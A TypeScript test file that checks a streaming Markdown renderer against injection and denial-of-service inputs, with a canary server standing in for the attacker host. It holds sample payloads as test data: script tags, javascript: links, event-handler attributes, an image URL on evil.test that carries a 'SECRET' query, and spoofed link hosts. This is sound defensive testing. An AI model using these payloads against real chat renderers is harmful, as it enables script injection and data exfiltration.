import { afterEach, beforeEach, expect, test } from 'vitest';
import { FaultHost } from '../../download/testing/fault-host.ts';
import { BlockSplitter } from './blocks/block-splitter.ts';
import { formulasSettled } from './maths/formulas.ts';
import { StreamingMarkdown } from './streaming-markdown.ts';
import { ATTACK_CASES } from './testing/attack-cases.ts';
import { ATTACK_CORPUS } from './testing/attack-corpus.ts';
import { checkInvariants, signature } from './testing/invariants.ts';

/** Most splits of one text; a longer text is split at evenly spaced bytes. */
const SPLITS = 120;

let canary: FaultHost;
let requests: string[] = [];
let alarms: string[] = [];
let observer: PerformanceObserver;
let undo: (() => void)[] = [];

/** A page without its own policy: this tests the renderer, not the policy behind it. */
beforeEach(() => {
  canary = new FaultHost();
  requests = [];
  alarms = [];
  observer = new PerformanceObserver((list) => requests.push(...list.getEntries().map((entry) => entry.name)));
  observer.observe({ type: 'resource' });
  const { alert, open } = window;
  const { error } = console;
  window.alert = () => void alarms.push('alert');
  window.open = () => {
    alarms.push('open');
    return null;
  };
  console.error = (...words) => void alarms.push(`console: ${words.join(' ')}`);
  const onError = (event: ErrorEvent): void => void alarms.push(`error: ${event.message}`);
  addEventListener('error', onError);
  undo = [
    () => Object.assign(window, { alert, open }),
    () => Object.assign(console, { error }),
    () => removeEventListener('error', onError),
  ];
});

afterEach(() => {
  observer.disconnect();
  for (const back of undo) back();
});

/** The text with the canary server in place of the attacker's host. */
function armed(text: string): string {
  const address = canary.url({ path: 'canary', size: 1 }).replace(/\?.*/, '');
  return text.replaceAll('https://evil.test', address).replaceAll('evil.test', address.replace(/^https?:\/\//, ''));
}

function begin(): { readonly container: HTMLElement; readonly writer: StreamingMarkdown } {
  const container = document.createElement('div');
  document.body.append(container);
  return { container, writer: new StreamingMarkdown(container) };
}

async function drawn(writer: StreamingMarkdown): Promise<void> {
  while (!writer.isSettled) await new Promise(requestAnimationFrame);
}

async function whole(text: string): Promise<HTMLElement> {
  const { container, writer } = begin();
  writer.update(text, true);
  await drawn(writer);
  await formulasSettled();
  checkInvariants(container);
  container.remove();
  return container;
}

/** One UTF-16 code unit at a time, which also splits surrogate pairs. */
async function unitByUnit(text: string): Promise<string> {
  const { container, writer } = begin();
  for (let end = 1; end < text.length; end++) {
    writer.update(text.slice(0, end), false);
    checkInvariants(container);
  }
  writer.update(text, true);
  await drawn(writer);
  checkInvariants(container);
  container.remove();
  return signature(container);
}

/** Split like on a network: two packets, and a decoder that keeps half a character for the next. */
async function splitAtEveryByte(text: string, expected: string): Promise<void> {
  const bytes = new TextEncoder().encode(text);
  const stride = Math.max(1, Math.ceil(bytes.length / SPLITS));
  for (let at = 1; at < bytes.length; at += stride) {
    const decoder = new TextDecoder();
    const { container, writer } = begin();
    const first = decoder.decode(bytes.subarray(0, at), { stream: true });
    writer.update(first, false);
    checkInvariants(container);
    writer.update(first + decoder.decode(bytes.subarray(at)), true);
    await drawn(writer);
    container.remove();
    if (signature(container) !== expected) expect(signature(container), `split at byte ${at}`).toBe(expected);
  }
}

/** Everything readable must contain every word of the text, except links' titles, labels and definitions. */
function expectWords(container: HTMLElement, text: string): void {
  const held = [...container.querySelectorAll('*')].flatMap((node) => [...node.attributes].map(({ value }) => value));
  const haystack = `${container.textContent} ${held.join(' ')}`.toLowerCase();
  const prose = text
    // Those that have become elements.
    .replace(/<\/?(?:details|summary)>/gi, ' ')
    .replace(/^.*(?:`{3}|~{3}).*$/gm, ' ')
    .replace(/ +(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\))\)/g, ')')
    .replace(/^(?:[->] )?\[[^\]]+\]:\s*(?:\S+|<.*>)(?:\s+(?:"[^"]*"|'[^']*'))?$/gm, ' ')
    .replace(/&#?\w+;|%[0-9a-f]{2}|\[\^[^\]]*\]/gi, ' ');
  for (const word of prose.toLowerCase().match(/(?<![\\\w])[a-z]{4,}(?!\w)/g) ?? []) expect(haystack).toContain(word);
}

async function attack(text: string): Promise<void> {
  const container = await whole(text);
  expectWords(container, text);
  const expected = signature(container);
  expect(await unitByUnit(text), text).toBe(expected);
  const wellFormed = text.toWellFormed();
  await splitAtEveryByte(wellFormed, wellFormed === text ? expected : signature(await whole(wellFormed)));
}

async function expectSilence(): Promise<void> {
  await new Promise(requestAnimationFrame);
  expect(await canary.requests()).toEqual([]);
  expect(requests.filter((url) => url.includes('canary') || url.includes('evil'))).toEqual([]);
  expect(alarms).toEqual([]);
}

test.each(Object.entries(ATTACK_CASES))(
  'attack %s has no effect, whole, by the unit or split at every byte',
  async (_, texts) => {
    const globals = Object.keys(window).length;
    for (const text of texts) await attack(armed(text));
    await expectSilence();
    expect(Object.keys(window).length).toBe(globals);
  },
);

test.each(Object.entries(ATTACK_CORPUS))(
  '%s have no effect, whole, by the unit or split at every byte',
  async (_, texts) => {
    for (const text of texts) await attack(armed(text));
    await expectSilence();
  },
);

test('the corpus has more than two hundred texts, all different', () => {
  const texts = Object.values(ATTACK_CORPUS).flat();
  expect(new Set(texts).size).toBe(texts.length);
  expect(texts.length).toBeGreaterThan(200);
});

test('the canary server notices a request', async () => {
  const image = new Image();
  image.src = armed('https://evil.test/a.png');
  await image.decode().catch(() => {});
  expect(await canary.requests()).toHaveLength(1);
});

test.each([
  '<div><img src="https://evil.test/a"></div>',
  '<div><a href="javascript:alert(1)">x</a></div>',
  '<div><p onclick="x">x</p></div>',
  '<div><p id="chat">x</p></div>',
  '<div><a href="https://good.test/" target="_blank">before a press</a></div>',
  '<div><a data-href="https://good.test/">without a rel</a></div>',
  '<div><span class="formula"><math href="https://evil.test"></math></span></div>',
])('the check of what may be in the page finds %s', (html) => {
  const page = new DOMParser().parseFromString(html, 'text/html');
  expect(() => checkInvariants(page.body.firstElementChild ?? page.body)).toThrow();
});

test('raw HTML is shown as text', async () => {
  const container = await whole('<script>alert(1)</script>\n\nand <b>bold</b>');
  expect(container.textContent).toBe('<script>alert(1)</script>and <b>bold</b>');
});

test('an image is a placeholder that names its host', async () => {
  const container = await whole('![A **map**](https://evil.test/map.png?q=SECRET)');
  expect(container.querySelector('.picture')?.textContent).toBe('Image not loaded: A **map** (evil.test)');
});

test('an image with a data URL is shown', async () => {
  const data = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=';
  const container = await whole(`![dot](${data})`);
  expect(container.querySelector('img')?.getAttribute('src')).toBe(data);
});

test('a link’s host is shown beside text that does not contain it', async () => {
  const shown = async (text: string): Promise<string | null> => (await whole(text)).textContent;
  expect(await shown('[https://good.test/](https://evil.test/)')).toBe('https://good.test/ (evil.test)');
  expect(await shown('[good.test\u202E](https://good.test.evil.test/)')).toBe('good.test (good.test.evil.test)');
  expect(await shown('[here](https://аррӏе.test/)')).toBe('here (xn--80ak6aa92e.test)');
  expect(await shown('<https://good.test/a>')).toBe('https://good.test/a');
  expect(await shown('[write](mailto:ada@good.test)')).toBe('write (ada@good.test)');
});

const HUGE: Readonly<Record<string, string>> = {
  'a line of 1 MB': 'a'.repeat(1_000_000),
  'a line of 1 MB with spaces': 'word '.repeat(200_000),
  '2 MB in paragraphs': `${'A line of an endless answer, **bold** here.\n'.repeat(10)}\n`.repeat(4_600),
  '10 000 nested quotes': '>'.repeat(10_000),
  '10 000 nested quotes and lists': '> - '.repeat(10_000),
  '10 000 brackets': '['.repeat(10_000),
  '10 000 images': '![a]('.repeat(10_000),
  '10 000 stars': '*a_b'.repeat(10_000),
  '10 000 underscores': '_a'.repeat(10_000),
  '10 000 backticks': '`a``'.repeat(10_000),
  '10 000 angle brackets': '<a '.repeat(10_000),
  '10 000 dollars': '$a'.repeat(10_000),
  '10 000 open formulas': '\\(a\\['.repeat(5_000),
  '10 000 footnotes': '[^a]'.repeat(10_000),
  'a table of 100 000 cells': `${'|a'.repeat(10)}|\n${'|-'.repeat(10)}|\n${`${'|c'.repeat(10)}|\n`.repeat(10_000)}`,
  'a row of 10 000 cells': `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n`,
  'an open fence of 58 000 characters': `\`\`\`\n${'[](]['.repeat(11_600)}`,
  'a list that sinks in': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(2 * depth)}- a`).join('\n'),
};

test.each(Object.entries(HUGE))(
  'attack 16, %s, is rendered in small pieces, and no character is lost',
  async (_, text) => {
    for (const block of new BlockSplitter().push(text.slice(0, 1_000_000), true)) {
      if (block.kind === 'text') expect(block.source.length).toBeLessThan(2 * 5_120);
    }
    const { container, writer } = begin();
    for (let end = 0; end < text.length; end += Math.ceil(text.length / 8)) {
      writer.update(text.slice(0, end), false);
      await new Promise(requestAnimationFrame);
    }
    writer.update(text, true);
    await drawn(writer);
    checkInvariants(container);
    const count = (value: string): number => {
      let letters = 0;
      for (let at = 0; at < value.length; at++)
        if (value.charCodeAt(at) >= 97 && value.charCodeAt(at) <= 122) letters += 1;
      return letters;
    };
    expect(count(container.textContent)).toBeGreaterThanOrEqual(count(text));
    container.remove();
  },
);
